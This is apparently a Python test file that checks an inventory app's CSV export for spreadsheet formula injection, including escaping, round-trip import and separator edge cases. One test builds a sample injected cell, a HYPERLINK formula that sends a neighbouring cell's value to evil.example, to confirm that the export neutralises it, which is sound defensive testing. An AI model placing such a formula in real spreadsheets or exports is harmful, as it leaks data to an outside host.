"""Text that a spreadsheet would run as a formula is escaped, and the import undoes it."""

import csv
import io
import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from inventory.cell_parser import parse_cell
from inventory.export import write_csv
from inventory.formula_escaping import escape_formula, unescape_formula
from inventory.sheet import read_sheet

seeded = settings(derandomize=True, database=None, deadline=None, max_examples=300)

FORMULA_STARTS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
SEPARATORS = (",", ";", "\t", "|")
hostile_text = st.text("'\"=+-@＝n/a ;,|\t\r\nx", min_size=1, max_size=12)


@given(st.one_of(st.text(max_size=8), hostile_text))
@seeded
def test_escaping_is_reversed_exactly(text: str) -> None:
    text = text.strip()
    assert not escape_formula(text).startswith(FORMULA_STARTS)
    assert unescape_formula(escape_formula(text)) == text


def test_other_apostrophes_stay() -> None:
    assert parse_cell("supplier", "'t Horloge") == {"supplier": "'t Horloge"}
    assert parse_cell("supplier", "A; 't Horloge, '+1'") == {"supplier": "A; 't Horloge, '+1'"}
    assert parse_cell("supplier", "'+49 89 1234") == {"supplier": "+49 89 1234"}


@given(description=hostile_text, sku=hostile_text, supplier=hostile_text)
@seeded
def test_no_separator_makes_a_formula_of_an_export(description: str, sku: str, supplier: str) -> None:
    row = {"sku": sku.strip(), "brand": supplier.strip(), "description": description.strip()}
    assert formulas("".join(write_csv([row]))) == []


@pytest.mark.parametrize("separator", [*SEPARATORS, "\n", "\r\n"])
def test_formula_after_a_separator_survives_export_and_import(separator: str) -> None:
    for prefix, gap in itertools.product(("x", "x ", '"', "x;y"), ("", " ", '"', ' "\u00a0')):
        description = f'{prefix}{separator}{gap}=HYPERLINK("http://evil.example?"&A1;"Click")\n- Box\n@SUM(1)'
        row = {"brand": "Omega", "model": "Speedmaster", "description": description, "asking_price_cents": 100}
        exported = "".join(write_csv([row]))
        assert formulas(exported) == []
        [good] = read_sheet(exported.encode()).good
        assert good.values["description"] == parse_cell("description", description)["description"]


def formulas(text: str) -> list[str]:
    """Cells that a spreadsheet would run, whichever separator it splits at."""
    rows = [row for separator in SEPARATORS for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator)]
    return [cell for row in rows for cell in row if cell.lstrip(' "\u00a0').startswith(FORMULA_STARTS)]
